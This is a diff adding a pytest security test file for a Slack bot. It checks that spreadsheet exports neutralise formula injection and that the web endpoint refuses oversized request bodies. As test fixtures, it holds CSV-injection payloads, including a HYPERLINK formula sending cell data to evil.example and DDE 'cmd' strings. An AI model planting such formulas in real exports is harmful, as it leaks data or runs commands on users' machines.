@@ -1,0 +1,178 @@
+"""Input written to attack: what a person types, or sends at the HTTP endpoint, must not turn
+into something that acts on someone else (issue 16: a formula in the lead's spreadsheet, a
+body that exhausts memory, a suggestion that names what the asker may not see, a mention
+that pings a whole channel)."""
+
+from __future__ import annotations
+
+import socket
+import time
+import urllib.parse
+from datetime import timedelta
+
+import pytest
+from conftest import LEAD, SIGNING_SECRET, STAKEHOLDER, TEAM, VENDOR
+from flows import create_engagement, text_of
+from slack_requests import SlackSim, sign
+from sqlmodel import select
+from test_cli_and_serving import free_port, procfile_command, serving, slack_env
+from test_concerns import raise_by_command
+from test_export import START, export_files, submit_form
+
+from bot.entry.wsgi import MAX_BODY_BYTES, SLACK_PATH
+from bot.platform import clock
+from storage.models import Concern, StatusUpdate
+
+# --- exports that cannot attack --------------------------------------------------------------
+
+# What a spreadsheet takes for a formula (OWASP, "CSV Injection"): a cell starting with one of
+# these. Each is typed into a different field that the export writes.
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+TYPED = {
+    "=": FORMULA,
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
+}
+
+
+def hostile_record(cadence) -> None:
+    with clock.fixed_at(START - timedelta(days=1)):
+        create_engagement(cadence)
+    with clock.fixed_at(START):
+        submit_form(cadence, "update acme-payments",
+                    {"rag": "amber", "reason": TYPED["+"], "summary": TYPED["="],
+                     "accomplishments": TYPED["-"], "kpi_1": "99.95", "kpi_2": "-5"},
+                    user=VENDOR)  # fmt: skip
+        submit_form(cadence, "feedback acme-payments",
+                    {"communication": "2", "quality": "3", "timeliness": "2", "overall": "2",
+                     "comment": TYPED["-"]}, user=STAKEHOLDER)  # fmt: skip
+        raise_by_command(cadence, "concern acme-payments Keys in email",
+                         {"severity": "high", "category": "security", "title": TYPED["@"]},
+                         user=LEAD)  # fmt: skip
+    # Every form strips what was typed, so no cell starts with a tab or a carriage return
+    # today; rows written another way (an earlier version, an import) still may, and the
+    # export must not rely on every way in stripping them.
+    with cadence.db.session() as session:
+        update = session.exec(select(StatusUpdate)).one()
+        update.next_steps = "\t=1+1"
+        concern = session.exec(select(Concern)).one()
+        concern.resolution_note = "\r=1+1"
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_an_exported_cell_never_starts_a_formula(cadence, lead):
+    hostile_record(cadence)
+    _, tables = export_files(cadence, "export acme-payments")
+    cells = [
+        value
+        for table in tables.values()
+        for row in table
+        for value in row.values()
+        if isinstance(value, str)
+    ]
+    # Everything people typed arrived, each one neutralised by a leading quote.
+    typed = {**TYPED, "\t": "\t=1+1", "\r": "\r=1+1"}[lead]
+    assert "'" + typed in cells, (lead, typed)
+    assert not [c for c in cells if c.startswith(lead) and not number(c)], lead
+
+
+def number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_numbers_cadence_writes_stay_numbers(cadence):
+    hostile_record(cadence)
+    _, tables = export_files(cadence, "export acme-payments")
+    uptime, resolve = tables["kpi_values.csv"]
+    assert (uptime["value"], resolve["value"]) == ("99.95", "-5.0")
+    (update,) = tables["updates.csv"]
+    assert update["summary"] == "'" + FORMULA
+    (concern,) = tables["concerns.csv"]
+    assert concern["title"] == "'" + TYPED["@"]
+
+
+# --- bodies bounded before parsing -------------------------------------------------------------
+
+HUGE = 200 * 1024 * 1024
+
+
+def post_raw(
+    url: str, headers: dict[str, str], body: bytes, timeout: float = 10
+) -> tuple[int, float]:
+    """POST `body` to /slack/events exactly as given (a declared length the body need not
+    have, a chunked encoding urllib would not send); the status and how long the answer took."""
+    address = urllib.parse.urlsplit(url)
+    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
+    request = f"POST {SLACK_PATH} HTTP/1.1\r\nHost: {address.netloc}\r\n{head}\r\n".encode()
+    start = time.monotonic()
+    with socket.create_connection((address.hostname, address.port), timeout=timeout) as s:
+        s.sendall(request + body)
+        answer = b""
+        while b"\r\n" not in answer:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            answer += chunk
+    status = int(answer.split(b" ", 2)[1])
+    return status, time.monotonic() - start
+
+
+def chunked(body: bytes, size: int = 64 * 1024) -> bytes:
+    parts = [body[i : i + size] for i in range(0, len(body), size)]
+    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"
+
+
+def declares_200_mib(url: str) -> tuple[int, float]:
+    """Says 200 MiB are coming, sends 100 bytes and waits: an app that read the body would
+    wait for the rest until the client gave up."""
+    headers = {
+        "Content-Type": "application/x-www-form-urlencoded",
+        "Content-Length": str(HUGE),
+    }
+    return post_raw(url, headers, b"x" * 100)
+
+
+def test_a_declared_body_over_the_limit_is_refused_at_once(cadence):
+    status, took = declares_200_mib(cadence.url)
+    assert status == 413 and took < 3, (status, took)
+    # Just over the limit too, and a length that is no number.
+    over = b"x" * (MAX_BODY_BYTES + 1)
+    assert post_raw(cadence.url, {"Content-Length": str(len(over))}, over)[0] == 413
+    assert post_raw(cadence.url, {"Content-Length": "-1"}, b"")[0] == 400
+    # A signed request still works.
+    assert "/cadence engagement new" in text_of(cadence.sim.command("help").json)
+
+
+def test_the_procfile_web_process_refuses_over_size_bodies(
+    tmp_path, fake_slack, sqlite_migrated_url
+):
+    """The Procfile's gunicorn line, run for real: a declared 200 MiB and a chunked body over
+    the limit are refused; a chunked body within it, signed, is read and answered."""
+    port = free_port()
+    env = slack_env(fake_slack, sqlite_migrated_url, port)
+    with serving(procfile_command("web", port), cwd=tmp_path, env=env, port=port) as url:
+        status, took = declares_200_mib(url)
+        assert status == 413 and took < 3, (status, took)
+
+        status, _ = post_raw(
+            url,
+            {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "chunked"},
+            chunked(b"x" * (MAX_BODY_BYTES + 64 * 1024)),
+        )
+        assert status == 413
+
+        sim = SlackSim(url, fake_slack, SIGNING_SECRET, team_id=TEAM)
+        assert "/cadence engagement new" in text_of(sim.command("help").json)
+        body = urllib.parse.urlencode(
+            {"command": "/cadence", "text": "help", "team_id": TEAM, "user_id": LEAD,
+             "channel_id": "C0GENERAL", "response_url": fake_slack.response_url("chunked"),
+             "trigger_id": "1.2.3"}
+        )  # fmt: skip
+        headers = {**sign(body, SIGNING_SECRET), "Transfer-Encoding": "chunked"}
+        status, _ = post_raw(url, headers, chunked(body.encode(), size=100))
+        assert status == 200
